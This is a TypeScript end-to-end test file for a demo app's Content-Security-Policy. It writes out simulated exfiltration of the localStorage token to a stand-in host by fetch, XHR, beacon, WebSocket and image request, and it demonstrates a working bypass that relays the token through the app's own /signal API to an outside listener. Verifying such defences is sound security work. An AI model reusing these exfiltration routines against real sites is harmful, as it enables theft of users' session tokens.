/**
 * The demo's page under the Content-Security-Policy `npm start` sends with it: requests that a
 * script on the page makes to a host other than the app, the API and the photo uploads (and for
 * images, the map's tiles) are refused by the browser before they leave, and no other site may
 * show the app in a frame; and what it does not stop, a script relaying the token through the API
 * itself (docs/demo.md says so). The rest of
 * the e2e suite runs under the same policy, and fails on any report of it in the console, so
 * everything the app does (its API calls, the signal socket, map tiles, photo uploads and
 * previews) is allowed by it.
 */
import { once } from "node:events"
import * as http from "node:http"
import type { AddressInfo } from "node:net"
import type { Browser } from "playwright-core"
// named apart: the browser's own WebSocket is used inside page.evaluate
import NodeWebSocket from "ws"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { newContext, newPage, useDemo, visible } from "./browser.js"
import type { Started } from "./server.js"

let app: Started
let browser: Browser

useDemo((demo) => {
  ;({ app, browser } = demo)
})

/** Another site: it counts what reaches it, and serves a page framing the app at `/frame`. */
let other: http.Server
let otherUrl = ""
const reached: Array<string> = []

beforeAll(async () => {
  other = http.createServer((request, response) => {
    if (request.url === "/frame") {
      response.writeHead(200, { "content-type": "text/html" }).end(`<!doctype html><title>Other</title><iframe src="${app.appUrl}/" width="800" height="600"></iframe>`)
      return
    }
    reached.push(`${request.method} ${request.url}`)
    response.writeHead(200, { "access-control-allow-origin": "*" }).end("ok")
  })
  other.on("upgrade", (request, socket) => {
    reached.push(`UPGRADE ${request.url}`)
    socket.destroy()
  })
  other.listen(0, "127.0.0.1")
  await once(other, "listening")
  otherUrl = `http://127.0.0.1:${(other.address() as AddressInfo).port}`
})

afterAll(() => other?.close())

describe("the demo's Content-Security-Policy", () => {
  it("refuses a script's fetch, XHR, beacon, WebSocket and image to another host, and lets the app reach its API", async () => {
    const { page } = await newPage(await newContext(browser))
    const violations: Array<string> = []
    page.on("console", (message) => {
      if (message.text().includes("Content Security Policy")) violations.push(message.text())
    })
    await page.goto(new URL("/login", app.appUrl).href)
    await page.getByLabel("Email").fill("alice@example.com")
    await page.getByLabel("Password").fill("alice-password")
    await page.getByRole("button", { name: "Log in" }).click()
    await visible(page.getByText("Logged in as Alice"))
    await visible(page.getByRole("status").filter({ hasText: "Live" }))

    const outcomes = await page.evaluate(async (target) => {
      const token = JSON.stringify(localStorage)
      const blocked: Array<string> = []
      document.addEventListener("securitypolicyviolation", (event) => blocked.push(`${event.effectiveDirective} ${event.blockedURI}`))
      const results: Record<string, string> = {}
      results.fetch = await fetch(`${target}/fetch`, { method: "POST", body: token }).then(() => "sent", (error) => `refused: ${error.name}`)
      results.xhr = await new Promise((resolve) => {
        const request = new XMLHttpRequest()
        request.open("POST", `${target}/xhr`)
        request.onload = () => resolve("sent")
        request.onerror = () => resolve("refused")
        request.send(token)
      })
      // queued either way: the browser refuses it when it would go (below: nothing reaches the host)
      navigator.sendBeacon(`${target}/beacon`, token)
      results.socket = await new Promise((resolve) => {
        try {
          const socket = new WebSocket(`${target.replace(/^http/, "ws")}/socket`)
          socket.onopen = () => resolve("open")
          socket.onerror = () => resolve("refused")
        } catch (error) {
          resolve(`refused: ${(error as Error).name}`)
        }
      })
      results.image = await new Promise((resolve) => {
        const image = new Image()
        image.onload = () => resolve("loaded")
        image.onerror = () => resolve("refused")
        image.src = `${target}/image.png?${encodeURIComponent(token)}`
      })
      await new Promise((resolve) => setTimeout(resolve, 100))
      return { results, blocked }
    }, otherUrl)

    expect(outcomes.results.fetch).toBe("refused: TypeError")
    expect(outcomes.results.xhr).toBe("refused")
    expect(outcomes.results.socket).toMatch(/^refused/)
    expect(outcomes.results.image).toBe("refused")
    expect(outcomes.blocked.filter((report) => report.startsWith("connect-src ")).length).toBeGreaterThanOrEqual(4)
    expect(outcomes.blocked.filter((report) => report.startsWith("img-src "))).toHaveLength(1)
    expect(violations.length).toBeGreaterThan(0)
    // nothing reached the other host
    await new Promise((resolve) => setTimeout(resolve, 200))
    expect(reached).toEqual([])
    // the app itself still reaches its API: a page that reads it works
    await page.getByRole("link", { name: "My bookings" }).click()
    await visible(page.getByRole("heading", { level: 1, name: "My bookings" }))
  })

  it("does not stop a script relaying the token through the API: POST /signal to a channel someone outside listens on", async () => {
    const { page } = await newPage(await newContext(browser))
    await page.goto(new URL("/login", app.appUrl).href)
    await page.getByLabel("Email").fill("alice@example.com")
    await page.getByLabel("Password").fill("alice-password")
    await page.getByRole("button", { name: "Log in" }).click()
    await visible(page.getByText("Logged in as Alice"))
    const config = JSON.parse(await page.locator("#stelace-config").textContent() ?? "{}") as { apiUrl: string; apiKey: string }

    // someone outside, with the publishable key anyone can read in the page
    const received = new Promise<string>((resolve) => {
      const socket = new NodeWebSocket(`${config.apiUrl.replace(/^http/, "ws")}/signal/?EIO=3&transport=websocket`)
      socket.on("message", (data) => {
        const frame = data.toString()
        if (frame === "40") socket.send("40/signal")
        const request = /^42\/signal,(\d+)\["authentication"/.exec(frame)
        if (request) socket.send(`43/signal,${request[1]}${JSON.stringify([{ publishableKey: config.apiKey, channels: ["outside"] }])}`)
        if (frame.includes("\"relayed\"")) {
          resolve(frame)
          socket.close()
        }
      })
    })
    const status = await page.evaluate(async ({ apiUrl, apiKey }) => {
      // 404 until the listener outside has joined its channel
      for (let attempt = 0; ; attempt++) {
        const response = await fetch(`${apiUrl}/signal`, {
          method: "POST",
          headers: { authorization: `Basic ${btoa(`${apiKey}:`)}`, "content-type": "application/json" },
          body: JSON.stringify({ destination: "outside", event: "relayed", message: JSON.stringify(localStorage) })
        })
        if (response.status !== 404 || attempt >= 100) return response.status
        await new Promise((resolve) => setTimeout(resolve, 50))
      }
    }, config)
    expect(status).toBe(200)
    expect(await received).toContain("accessToken")
    expect(reached).toEqual([])
  })

  it("shows the app in no other site's frame", async () => {
    const { page } = await newPage(await newContext(browser))
    // "load" waits for the frame too, whatever it ends up showing
    await page.goto(`${otherUrl}/frame`, { waitUntil: "load" })
    const frame = page.frames().find((candidate) => candidate !== page.mainFrame())!
    // the browser put its error page in the frame instead of the app
    expect(frame.url()).not.toBe(`${app.appUrl}/`)
    expect(await frame.locator("#root").count()).toBe(0)
  })
})
